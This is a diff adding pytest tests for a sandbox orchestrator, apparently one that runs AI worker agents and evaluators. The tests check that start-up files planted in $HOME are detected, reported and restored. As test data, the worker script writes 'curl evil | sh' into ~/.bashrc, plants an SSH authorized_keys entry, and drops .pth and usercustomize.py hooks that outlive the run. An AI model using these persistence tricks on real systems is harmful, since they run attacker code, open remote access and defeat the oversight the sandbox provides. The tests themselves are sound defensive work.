@@ -129,6 +129,42 @@ def test_git_config_planted_in_home_is_put_back_and_blamed(tmp_path, orch, mode,
     assert repo.git("rev-parse", "campaign/hostile") == baseline
 
 
+def test_start_up_files_planted_in_home_are_put_back_and_blamed(tmp_path, orch, mode, home):
+    """$HOME is writable in the sandbox: a shell start-up file, ssh's keys, a `.pth` or `usercustomize.py` in
+    the user site (run by every later Python: yours, and the evaluators') would have outlived the run."""
+    from orchestrate.workers import startup_files
+    (home / ".bashrc").write_text("# mine\n")
+    site = startup_files.site_folders()[0]
+    assert site.is_relative_to(home)
+    site.mkdir(parents=True)
+    (site / "mine.pth").write_text("/opt/mine\n")
+    worker = (f'echo a > a.txt\necho "curl evil | sh" >> "$HOME/.bashrc"\nmkdir -p "$HOME/.ssh"\n'
+              f'echo "ssh-ed25519 AAAA evil" > "$HOME/.ssh/authorized_keys"\n'
+              f'echo "import os; os.system(\'true\')" > "{site}/evil.pth"\necho "/opt/other" > "{site}/mine.pth"\n'
+              f'echo "import sys" > "{site}/usercustomize.py"\n')
+    repo, baseline, result = run(tmp_path, orch, worker, mode)
+    text = result.out + result.err
+    assert result.rc == 75, text
+    for said in ("~/.bashrc was changed", "~/.ssh/authorized_keys was created", "evil.pth was created",
+                 "mine.pth was changed", "usercustomize.py was created"):
+        assert said in text, (said, text)
+    assert (home / ".bashrc").read_text() == "# mine\n" and (site / "mine.pth").read_text() == "/opt/mine\n"
+    assert not (home / ".ssh" / "authorized_keys").exists() and sorted(p.name for p in site.iterdir()) == ["mine.pth"]
+    assert repo.git("rev-parse", "campaign/hostile") == baseline
+
+
+def test_a_pth_file_an_evaluator_plants_is_removed_before_anything_else_runs(tmp_path, orch, mode, home):
+    from orchestrate.workers import startup_files
+    site = startup_files.site_folders()[0]
+    evaluator = "{name: plant, run: " + json.dumps(f"sh -c 'mkdir -p {site} && echo import os > {site}/x.pth'") + "}"
+    repo, baseline, result = run(tmp_path, orch, "echo a > a.txt\n", mode, evaluator)
+    text = result.out + result.err
+    assert result.rc == 75, text
+    assert "node A: while it ran or was judged, ~/" in text and "x.pth was created" in text, text
+    assert not (site / "x.pth").exists()
+    assert repo.git("rev-parse", "campaign/hostile") == baseline
+
+
 PLANT = 'printf "[alias]\\n\\tplanted = !echo planted\\n" >> "$HOME/.gitconfig"'
 
 
